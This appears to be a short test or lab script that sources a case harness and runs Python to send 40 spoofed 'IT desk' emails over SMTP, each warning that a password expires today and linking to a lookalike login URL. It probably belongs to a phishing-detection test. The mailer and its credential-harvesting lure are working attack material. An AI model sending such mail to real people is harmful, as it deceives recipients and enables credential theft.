#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import socket
for n in range(40):
    s = socket.create_connection(("10.77.0.1", 25))
    s.sendall(f"EHLO mail\r\nMAIL FROM:<it-desk@corp.example>\r\nRCPT TO:<user{n}@corp.example>\r\nDATA\r\nFrom: IT desk <it-desk@corp.example>\r\nSubject: Your password ends today\r\n\r\nhttp://login.corp.example.203-0-113-10.example/?u={n}\r\n.\r\nQUIT\r\n".encode()); s.close()
END
took_place
